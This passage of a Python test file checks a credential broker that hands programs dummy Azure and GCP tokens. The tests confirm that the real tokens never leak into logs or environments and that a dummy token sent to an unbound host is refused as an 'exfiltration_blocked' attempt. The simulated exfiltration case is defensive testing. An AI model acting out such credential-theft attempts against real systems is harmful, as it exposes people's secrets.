    dummy = r.env()["AZURE_ACCESS_TOKEN"]
    assert not [q for q in fake.snapshot("requests") if dummy in (q["authorization"] or "")]
    recs = [q for q in r.requests() if q.get("host") == "management.azure.com"]
    assert len(recs) >= 5 and all(q["status"] == 200 and q.get("credential") == "azure"
                                  for q in recs), recs


def test_azure_token_is_cached_until_expiry(azure_run):
    assert azure_run.returncode == 0, azure_run.describe()
    runs = azure_run.az_runs.read_text().splitlines()
    assert len(runs) == 1, f"az ran {len(runs)} times for a token valid for an hour"
    assert json.loads(runs[0]) == ["account", "get-access-token", "--output", "json"], runs


def test_azure_a_response_echoing_the_real_token_shows_the_dummy(azure_run):
    e = azure_run.ok("echo")
    dummy = azure_run.env()["AZURE_ACCESS_TOKEN"]
    assert e["status"] == 200, e
    assert json.loads(e["body"])["seen"] == f"Bearer {dummy}", e
    assert e["headers"].get("x-seen-authorization") == f"Bearer {dummy}", e


def test_azure_dummy_to_an_unbound_host_is_refused(azure_run, echo):
    v = azure_run.ok("unbound_bearer")
    assert_refusal(v["status"], v["headers"], v["body"].encode(), "credential_not_bound", 403,
                   host=OTHER)
    assert "/azure-exfil" not in {q["path"] for q in echo.requests}
    recs = [q for q in azure_run.records() if q.get("event") == "exfiltration_blocked"]
    assert recs and all(q.get("credential") == "azure" for q in recs), azure_run.records()


def test_azure_token_is_refreshed_before_it_expires(azure_refresh_run, fake):
    r = azure_refresh_run
    assert r.returncode == 0, r.describe()
    loop = r.ok("loop")
    assert len(loop) >= 8, loop
    assert all(i["status"] == 200 for i in loop), [i for i in loop if i["status"] != 200]
    runs = az_run_count(r.az_runs)
    assert runs >= 2, f"az ran {runs} time(s) in a {LOOP_SECONDS} s session of {SHORT_LIFE} s tokens"
    calls = fake.calls_by("az-refresh")
    used = {c["token"] for c in calls}
    assert len(used) >= 2, f"the fake saw {len(used)} distinct real tokens"
    assert all(c["ok"] for c in calls)
    assert not [f for f in fake.snapshot("failures")
                if (f.get("authorization") or "")[7:] in used | {r.env()["AZURE_ACCESS_TOKEN"]}]


# ==============================================================================================
# f. the real values appear nowhere the broker writes, nor in the child's environment
# ==============================================================================================


RUNS = ["sa_run", "refresh_run", "user_run", "cmd_run", "azure_run", "azure_refresh_run"]


@pytest.mark.parametrize("run_name", RUNS)
def test_no_real_value_in_anything_the_broker_wrote(request, fake, run_name):
    run = request.getfixturevalue(run_name)
    assert run.result is not None, run.describe()
    assert list(run.logs.glob("*.jsonl")), f"no audit log\n{run.describe()}"
    assert [q for q in run.requests() if q.get("credential") and q.get("status") == 200], \
        f"no brokered request succeeded\n{run.describe()}"
    reals = real_values(run_name, fake)
    assert reals, "the fake knows no real value of this session"
    assert list(run.snapshot.rglob("*")), "the child copied nothing of the session directory"
    env_bytes = json.dumps(run.env()).encode()
    written = run.written() + [("the child's environment", env_bytes)]
    if "key_file" in run.out():
        written.append(("the session key file", run.ok("key_file")["text"].encode()))
    for what, data in written:
        for real in reals:
            for form in forms_of(real):
                assert form not in data, f"{what} holds a real value ({form[:12]!r}...)"


def test_serve_env_file_carries_a_gcp_key_file_of_dummies(tmp_path):
    """`serve --env-file` gives programs outside a wrap the same gcp view: the key file beside
    the env file (0600, an authorized_user key of the dummy client) and the dummy token."""
    from conftest import Broker

    real = "ya29.a0AfB_" + "R" * 120
    policy = {"version": 1, "allow": [{"host": "*.googleapis.com"}],
              "credentials": {"google": {"type": "gcp", "hosts": ["*.googleapis.com"],
                                         "source": f"cmd:printf '{real}'"}}}
    b = Broker(tmp_path, policy=policy, env_file=True)
    try:
        lines = dict(line.split("=", 1) for line in b.env_file.read_text().splitlines() if line)
        key_path = Path(lines["GOOGLE_APPLICATION_CREDENTIALS"])
        assert key_path == Path(str(b.env_file) + ".gcp-google.json")
        assert (key_path.stat().st_mode & 0o777) == 0o600
        key = json.loads(key_path.read_text())
        assert key["type"] == "authorized_user"
        assert key["token_uri"] == "https://oauth2.googleapis.com/token"
        assert key["client_id"].endswith(".apps.googleusercontent.com")
        dummy = lines["CLOUDSDK_AUTH_ACCESS_TOKEN"]
        assert dummy.startswith("ya29.") and len(dummy) == len(real) and dummy != real
        for data in (b.env_file.read_bytes(), key_path.read_bytes()):
            assert real.encode() not in data
    finally:
        b.stop()
